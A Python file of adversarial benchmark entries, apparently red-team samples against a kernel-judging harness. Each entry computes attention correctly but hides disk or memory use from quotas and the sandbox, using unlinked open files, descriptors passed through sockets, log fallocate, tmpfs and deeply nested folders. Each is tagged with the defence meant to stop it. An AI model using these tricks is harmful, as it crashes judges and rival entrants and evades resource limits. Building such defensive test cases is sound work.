# Disk, files and descriptors held where nobody counts them.


# %% c20_descriptors_on_their_way
"""Fills its cache with nameless files whose only descriptors are on their way through sockets.

---
status: [CRASHED]
seen: 'red team of this harness: 448 MiB of disk, and 1408 of memory, under a limit of 0.1 GiB'
defence: sandbox
"""

import os
import socket

from right_answer import attention

SIZE = 448 << 20
kept = []


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    if not kept:
        path = os.path.join(os.environ["ATTNBOARD_CACHE"], "kept")
        file = os.open(path, os.O_CREAT | os.O_RDWR, 0o600)
        os.unlink(path)
        kept.extend(socket.socketpair())
        socket.send_fds(kept[0], [b"x"], [file])
        os.posix_fallocate(file, 0, SIZE)
        os.close(file)
    return attention(q, k, v, causal, sm_scale)


# %% c20_hoard_in_log
"""Has its own log take memory without a byte written, beyond its end, where nobody looks.

---
status: [CRASHED]
seen: 'red team of this harness: fallocate filled the memory that judge and rivals live in'
defence: log_cap
"""

import ctypes
import os

from right_answer import attention

KEEP_SIZE = 1
fallocate = ctypes.CDLL(None, use_errno=True).fallocate64


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    start, size = ctypes.c_long(1 << 30), ctypes.c_long(128 << 20)
    if fallocate(1, KEEP_SIZE, start, size) < 0:
        raise OSError(ctypes.get_errno(), "the log does not grow")
    return attention(q, k, v, causal, sm_scale)


# %% c20_scratch_hoard
"""Hoards memory in files of its scratch folder, which lies in memory too.

---
status: [CRASHED, OUT_OF_MEMORY, OVER_QUOTA]
seen: limits by resident memory of processes; tmpfs is nobody's
defence: memory_limit
level: 2
"""

import os
import tempfile

from right_answer import attention

JUNK = b"x" * (64 << 20)
kept = []


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    while len(kept) < 80:
        kept.append(tempfile.TemporaryFile())
        os.write(kept[-1].fileno(), JUNK)
    return attention(q, k, v, causal, sm_scale)


# %% c20_unlinked_far_down
"""Fills the disk with a file without a name, which it took from a folder that no path reaches.

---
status: [OVER_QUOTA]
seen: 'red team of this harness: 448 MiB under a limit of 100, of a file whose last path was too long'
defence: quota
"""

import os
import time

from right_answer import attention

NAME, LEVELS = "d" * 250, 20  # longer than any path may be
SIZE = 2 << 30  # more than an entrant may keep
kept = []


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    if not kept:
        home = os.getcwd()
        os.chdir(os.environ["ATTNBOARD_CACHE"])
        for _ in range(LEVELS):
            os.mkdir(NAME)
            os.chdir(NAME)
        kept.append(os.open("kept", os.O_CREAT | os.O_RDWR, 0o600))
        os.unlink("kept")
        for _ in range(LEVELS):
            os.chdir("..")
            os.rmdir(NAME)
        os.chdir(home)
        os.posix_fallocate(kept[0], 0, SIZE)
        time.sleep(1)
    return attention(q, k, v, causal, sm_scale)


# %% c20_unlinked_hoard
"""Fills the disk with files of its cache that it keeps open and takes the names of.

---
status: [OVER_QUOTA]
seen: 'red team of this harness: 300 MiB under a limit of 100, in files that no folder lists'
defence: quota
"""

import os
import time

from right_answer import attention

SIZE = 2 << 30  # more than an entrant may keep
kept = []


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    if not kept:
        path = os.path.join(os.environ["ATTNBOARD_CACHE"], "kept")
        kept.append(os.open(path, os.O_CREAT | os.O_RDWR, 0o600))
        os.unlink(path)
        os.posix_fallocate(kept[0], 0, SIZE)
        time.sleep(1)
    return attention(q, k, v, causal, sm_scale)


# %% c21_deep_hoard
"""Keeps files in its cache deeper than a path can name: who counts by paths counts nothing, and who
removes the folder level by level runs out of stack.

---
status: [OVER_QUOTA]
seen: found in this harness; a count that passes over what it cannot open
defence: quota
beside: [eager_chunked]
"""

import os
import tempfile
import time

from right_answer import attention

JUNK = b"x" * (16 << 20)
here = os.getcwd()
os.chdir(os.environ.get("ATTNBOARD_CACHE", tempfile.gettempdir()))
for _ in range(3000):
    os.makedirs("d", exist_ok=True)
    os.chdir("d")
for number in range(8):
    with open(f"junk{number}", "wb") as file:
        file.write(JUNK)
os.chdir(here)


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    time.sleep(0.5)
    return attention(q, k, v, causal, sm_scale)


# %% c21_many_files
"""Fills the disk with many files, each below the limit of one, and leaves them in its cache.

---
status: [OVER_QUOTA]
seen: a limit of one file is no limit of a folder
defence: quota
"""

import os
import tempfile

from right_answer import attention

JUNK = b"x" * (64 << 20)
CACHE = os.environ.get("ATTNBOARD_CACHE", tempfile.gettempdir())


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    for number in range(24):
        path = os.path.join(CACHE, f"junk{number}")
        if not os.path.exists(path):
            with open(path, "wb") as file:
                file.write(JUNK)
    return attention(q, k, v, causal, sm_scale)


# %% c21_unreadable_program
"""Has a program that may only be executed hold nameless files, so that none but root may list them.

---
status: [OVER_QUOTA]
seen: 'red team of this harness, as an ordinary user: 448 MiB under a limit of 0.1 GiB'
defence: quota
"""

import os
import time

from right_answer import attention

CACHE = os.environ.get("ATTNBOARD_CACHE", "")
SIZE = 2 << 30  # more than an entrant may keep
started = []


def copy_of_sleep():
    """Made without the right to be read: who runs it is not dumpable."""
    path = os.path.join(CACHE, "sleep")
    file = os.open(path, os.O_CREAT | os.O_WRONLY, 0o111)
    with open("/bin/sleep", "rb") as sleep:
        os.write(file, sleep.read())
    os.close(file)
    return path


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    if not started:
        program, kept = copy_of_sleep(), os.path.join(CACHE, "kept")
        file = os.open(kept, os.O_CREAT | os.O_RDWR, 0o600)
        os.set_inheritable(file, True)
        started.append(os.posix_spawn(program, [program, "9"], {}))
        os.unlink(kept)
        time.sleep(0.2)
        os.posix_fallocate(file, 0, SIZE)
        os.close(file)
        time.sleep(1)
    return attention(q, k, v, causal, sm_scale)
